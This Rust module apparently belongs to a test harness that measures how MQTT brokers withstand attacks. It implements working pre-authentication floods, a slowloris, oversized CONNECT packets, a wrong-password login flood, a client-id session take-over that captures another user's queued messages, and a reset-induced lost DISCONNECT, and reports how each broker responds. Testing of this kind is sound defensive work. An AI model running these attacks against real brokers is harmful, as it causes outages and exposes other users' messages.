//! Attacks on connections: before authentication (big first packet, slow CONNECT, huge
//! CONNECT), on authentication (login flood, session take-over), a 60 KB client id, and
//! the server's DISCONNECT lost to a reset.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::Instant;

use super::kit::{self, codes, pipeline, subscribe};
use super::raw::{End, Raw, Read};
use super::{Report, Target};
use crate::proto::{self, prop, ConnectFields, Version};

/// Connections that each send a first packet that is not CONNECT (PUBLISH) announcing
/// 8 MiB, then its body as fast as the broker takes it.
pub async fn preauth_big(t: &Target) -> Result<Report, String> {
    let conns = 50;
    let announced = 8 * 1024 * 1024 - 1;
    let mut set = JoinSet::new();
    for _ in 0..conns {
        let (addr, until) = (t.addr, t.until);
        set.spawn(async move {
            let mut c = Raw::open(addr, Version::V311).await?;
            let mut head = vec![0x30];
            proto::put_varint(&mut head, announced);
            c.send_by(&head, until).await?;
            let chunk = vec![0u8; 64 * 1024];
            let mut sent = 0usize;
            let mut refused = None;
            while sent < announced {
                let n = chunk.len().min(announced - sent);
                if let Err(e) = c.send_by(&chunk[..n], until).await {
                    refused = Some(e);
                    break;
                }
                sent += n;
            }
            let d = c.drain(Duration::from_secs(3)).await;
            Ok::<_, String>((sent, refused.is_some() || !matches!(d.end, End::Open)))
        });
    }
    let (mut bytes, mut closed, mut errors) = (0usize, 0, 0);
    while let Some(r) = set.join_next().await {
        match r {
            Ok(Ok((sent, c))) => {
                bytes += sent;
                closed += usize::from(c);
            }
            _ => errors += 1,
        }
    }
    Ok(Report::new(
        format!(
            "{closed}/{conns} closed by the broker; it took {} MB of the {} MB sent{}",
            bytes / 1_000_000,
            conns * announced / 1_000_000,
            if errors > 0 {
                format!("; {errors} could not connect")
            } else {
                String::new()
            }
        ),
        format!("{conns} connections: PUBLISH (no CONNECT) announcing 8 MiB, body sent"),
    ))
}

/// Connections that send a CONNECT one byte per second (a slowloris).
pub async fn preauth_slow(t: &Target) -> Result<Report, String> {
    let conns = 500;
    let open = Arc::new(AtomicUsize::new(0));
    let mut set = JoinSet::new();
    let start = Instant::now();
    for i in 0..conns {
        let (addr, until, open) = (t.addr, t.until, open.clone());
        set.spawn(async move {
            let Ok(mut c) = Raw::open(addr, Version::V311).await else {
                return None;
            };
            let id = format!("atk-slow-{i}-{}", "s".repeat(200));
            let mut b = Vec::new();
            proto::connect(&mut b, Version::V311, &id, true, 60);
            open.fetch_add(1, Ordering::Relaxed);
            for byte in b {
                if c.send_by(&[byte], until).await.is_err() {
                    break;
                }
                match c
                    .read_until((Instant::now() + Duration::from_secs(1)).min(until))
                    .await
                {
                    Read::Timeout if Instant::now() < until => {}
                    Read::Timeout => return Some(None),
                    _ => break,
                }
            }
            open.fetch_sub(1, Ordering::Relaxed);
            Some(Some(start.elapsed()))
        });
    }
    let (mut still, mut closed_at) = (0, Vec::new());
    while let Some(r) = set.join_next().await {
        match r {
            Ok(Some(None)) => still += 1,
            Ok(Some(Some(at))) => closed_at.push(at.as_secs_f64()),
            _ => {}
        }
    }
    closed_at.sort_by(f64::total_cmp);
    let secs = (t.until - start).as_secs_f64();
    Ok(Report::new(
        format!(
            "{still}/{conns} still open after {secs:.0} s{}",
            closed_at
                .first()
                .map(|f| format!("; {} closed, first after {f:.1} s", closed_at.len()))
                .unwrap_or_default()
        ),
        format!("{conns} connections sending a CONNECT at 1 byte/s"),
    ))
}

/// 5.0 CONNECTs of ~8 MB each, almost all of it empty user properties.
pub async fn preauth_huge_connect(t: &Target) -> Result<Report, String> {
    let conns = 10;
    let nprops = 1_600_000;
    let mut props = Vec::with_capacity(nprops * 5);
    for _ in 0..nprops {
        prop::user(&mut props, b"", b"");
    }
    let mut held = Vec::new();
    let mut answers = Vec::new();
    let mut other = Vec::new();
    for i in 0..conns {
        let id = format!("atk-huge-{i}");
        let f = ConnectFields {
            client_id: id.as_bytes(),
            clean: true,
            keep_alive: 120,
            props: &props,
            ..Default::default()
        };
        match Raw::connect(t.addr, Version::V5, &f, Duration::from_secs(10)).await {
            Ok((c, code)) => {
                answers.push(code);
                held.push(c);
            }
            Err(e) => other.push(e),
        }
        if Instant::now() > t.until {
            break;
        }
    }
    tokio::time::sleep(t.hold()).await;
    let mut open = 0;
    for mut c in held {
        let d = c.drain(Duration::from_millis(200)).await;
        open += usize::from(matches!(d.end, End::Open));
    }
    Ok(Report::new(
        format!(
            "CONNACK {}{}; {open} held open",
            if answers.is_empty() {
                "none".into()
            } else {
                codes(&answers)
            },
            other
                .first()
                .map(|e| format!("; {} without CONNACK ({e})", other.len()))
                .unwrap_or_default()
        ),
        format!(
            "{conns} x 5.0 CONNECT of {} MB ({nprops} user properties)",
            props.len() / 1_000_000
        ),
    ))
}

/// 2,000 CONNECTs with a wrong password, 100 at a time.
pub async fn login_flood(t: &Target) -> Result<Report, String> {
    let n = 2000;
    let mut set = JoinSet::new();
    let mut next = 0;
    let (mut answered, mut failed) = (Vec::new(), Vec::<String>::new());
    let start = Instant::now();
    let mut valid = None;
    loop {
        // The valid login of the issue, once the flood is under way; up to 30 s more.
        if next == 200 && valid.is_none() {
            let addr = t.addr;
            valid = Some(tokio::spawn(async move {
                let f = ConnectFields {
                    client_id: b"atk-login-valid",
                    clean: true,
                    keep_alive: 60,
                    username: Some(super::brokers::USERS[0].0),
                    password: Some(super::brokers::USERS[0].1.as_bytes()),
                    props: &[],
                };
                let t0 = Instant::now();
                // From another loopback address: another device than the flooder's.
                let from = Some(std::net::IpAddr::from([127, 0, 0, 2]));
                match Raw::connect_from(addr, Version::V311, &f, Duration::from_secs(30), from)
                    .await
                {
                    Ok((_, code)) => format!(
                        "valid login: CONNACK {code:#04x} after {:.2} s",
                        t0.elapsed().as_secs_f64()
                    ),
                    Err(e) => format!("valid login: {e} after {:.1} s", t0.elapsed().as_secs_f64()),
                }
            }));
        }
        while set.len() < 100 && next < n && Instant::now() < t.until {
            let (addr, until, i) = (t.addr, t.until, next);
            next += 1;
            set.spawn(async move {
                let id = format!("atk-login-{i}");
                let pass = format!("wrong-{i}");
                let f = ConnectFields {
                    client_id: id.as_bytes(),
                    clean: true,
                    keep_alive: 60,
                    username: Some("alice"),
                    password: Some(pass.as_bytes()),
                    props: &[],
                };
                let wait = until.saturating_duration_since(Instant::now());
                Raw::connect(addr, Version::V311, &f, wait)
                    .await
                    .map(|(_, code)| code)
            });
        }
        match set.join_next().await {
            Some(Ok(Ok(code))) => answered.push(code),
            Some(Ok(Err(e))) => failed.push(e),
            Some(Err(e)) => failed.push(e.to_string()),
            None => break,
        }
    }
    let secs = start.elapsed().as_secs_f64();
    let valid = match valid {
        Some(v) => v.await.unwrap_or_else(|e| e.to_string()),
        None => "valid login not tried".into(),
    };
    Ok(Report::new(
        format!(
            "{valid}; flood: CONNACK {} in {secs:.1} s{}",
            codes(&answered),
            failed
                .first()
                .map(|e| format!("; {} unanswered ({e})", failed.len()))
                .unwrap_or_default()
        ),
        format!("{next}/{n} CONNECT (user alice, wrong password), 100 at a time"),
    ))
}

/// A 60 KB client id with a persistent session, reconnecting, and QoS 1 messages
/// queued to it: what the log writes per message.
pub async fn long_client_id(t: &Target) -> Result<Report, String> {
    let id = format!("atk-long-{}", "c".repeat(60_000));
    let mut c = kit::session(t.addr, Version::V311, &id, Some(3600), &[]).await?;
    subscribe(&mut c, &["lc/t"], 1).await?;
    kit::leave(c).await;
    let reconnects = 3;
    for _ in 0..reconnects {
        let c = kit::session(t.addr, Version::V311, &id, Some(3600), &[]).await?;
        kit::leave(c).await;
    }
    let n = 2000;
    let mut p = kit::client(t.addr, Version::V311, "atk-long-pub").await?;
    tokio::time::sleep(Duration::from_millis(200)).await;
    let log0 = t.log_size();
    let r = pipeline(&mut p, n, 100, t.until, |_, pid, b| {
        proto::publish_with(b, Version::V311, b"lc/t", 1, false, pid, &[], b"m")
    })
    .await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let logged = t.log_size().saturating_sub(log0);
    kit::leave(p).await;
    Ok(Report::new(
        format!(
            "accepted; publisher {}; log while publishing: {logged} B ({} B per acked message)",
            r.summary(n),
            logged / r.acked.max(1) as u64
        ),
        format!("60 KB client id, persistent session, {reconnects} reconnects, {n} QoS 1 queued to it offline"),
    ))
}

/// User bob connects with the client id of alice's persistent session.
pub async fn takeover(t: &Target) -> Result<Report, String> {
    let id = "atk-shared-id";
    let conn = |user: &'static str, pass: &'static str| {
        let f = ConnectFields {
            client_id: id.as_bytes(),
            clean: false,
            keep_alive: 60,
            username: Some(user),
            password: Some(pass.as_bytes()),
            props: &[],
        };
        async move { Raw::connect(t.addr, Version::V311, &f, Duration::from_secs(10)).await }
    };
    let (mut a, code) = conn("alice", "alice-pass").await?;
    if code != 0 {
        return Err(format!("alice refused: CONNACK {code:#04x}"));
    }
    subscribe(&mut a, &["alice/secret"], 1).await?;
    kit::leave(a).await;
    let f = ConnectFields {
        client_id: b"atk-alice-pub",
        clean: true,
        keep_alive: 60,
        username: Some("alice"),
        password: Some(b"alice-pass"),
        props: &[],
    };
    let (mut p, _) = Raw::connect(t.addr, Version::V311, &f, Duration::from_secs(10)).await?;
    let n = 3;
    let r = pipeline(&mut p, n, 3, t.until, |i, pid, b| {
        let payload = format!("alice's secret {i}");
        proto::publish_with(
            b,
            Version::V311,
            b"alice/secret",
            1,
            false,
            pid,
            &[],
            payload.as_bytes(),
        )
    })
    .await;
    kit::leave(p).await;
    let outcome = match conn("bob", "bob-pass").await {
        Ok((mut b, 0)) => {
            let d = b.drain(Duration::from_secs(2)).await;
            if d.publishes > 0 {
                format!(
                    "TAKEN OVER: bob got {} of alice's {n} messages",
                    d.publishes
                )
            } else {
                "bob accepted, got none of alice's messages".into()
            }
        }
        Ok((_, code)) => format!("bob refused: CONNACK {code:#04x}"),
        Err(e) => format!("bob: {e}"),
    };
    // Does alice still have her messages?
    let alice = match conn("alice", "alice-pass").await {
        Ok((mut a, 0)) => format!(
            "alice back: {} of {n} messages",
            a.drain(Duration::from_secs(2)).await.publishes
        ),
        Ok((_, code)) => format!("alice refused: CONNACK {code:#04x}"),
        Err(e) => format!("alice: {e}"),
    };
    Ok(Report::new(
        format!("{outcome}; {alice}"),
        format!("alice's persistent session with {n} queued QoS 1 ({}), then bob with the same client id", r.summary(n)),
    ))
}

/// The server's DISCONNECT behind a backlog: the client subscribes to its own topic and
/// publishes ~5 MB to it without reading (the broker's socket buffer towards it fills),
/// then sends a protocol error (5.0 Topic Alias 0) followed at once by 256 KB of
/// PINGREQs. A broker that closes with those bytes unread makes the kernel send a reset
/// and discard what it had not sent yet: the DISCONNECT is lost unless the broker
/// closes gracefully (shuts down its side, reads on until the client closes).
pub async fn disconnect_rst(t: &Target) -> Result<Report, String> {
    let tries = 10;
    let (mut got, mut reset, mut closed, mut other) = (0, 0, 0, 0);
    let mut reason = None;
    for i in 0..tries {
        if Instant::now() > t.until {
            break;
        }
        let mut c = kit::client(t.addr, Version::V5, &format!("atk-rst-{i}")).await?;
        let topic = format!("rst/{i}");
        subscribe(&mut c, &[&topic], 0).await?;
        let mut b = Vec::new();
        for _ in 0..300 {
            proto::publish_with(
                &mut b,
                Version::V5,
                topic.as_bytes(),
                0,
                false,
                0,
                &[],
                &[b'b'; 16 * 1024],
            );
        }
        let _ = c.send_by(&b, Instant::now() + Duration::from_secs(3)).await;
        tokio::time::sleep(Duration::from_millis(300)).await;
        b.clear();
        let mut props = Vec::new();
        prop::u16(&mut props, prop::TOPIC_ALIAS, 0);
        proto::publish_with(&mut b, Version::V5, b"rst/t", 0, false, 0, &props, b"x");
        for _ in 0..128 * 1024 {
            proto::pingreq(&mut b);
        }
        let _ = c.send_by(&b, Instant::now() + Duration::from_secs(3)).await;
        // Let the broker see the error and close before the client reads its backlog.
        tokio::time::sleep(Duration::from_millis(500)).await;
        let d = c.drain(Duration::from_secs(5)).await;
        match (d.disconnect, &d.end) {
            (Some(r), _) => {
                got += 1;
                reason = Some(r);
            }
            (None, End::Error(_)) => reset += 1,
            (None, End::Closed) => closed += 1,
            (None, End::Open) => other += 1,
        }
    }
    Ok(Report::new(
        format!(
            "DISCONNECT{} received {got}/{tries}; reset without it {reset}; closed without it {closed}; left open {other}",
            reason.map(|r| format!(" {r:#04x}")).unwrap_or_default()
        ),
        format!("{tries} x: ~5 MB to itself unread, then PUBLISH with Topic Alias 0 + 256 KB of PINGREQ"),
    ))
}
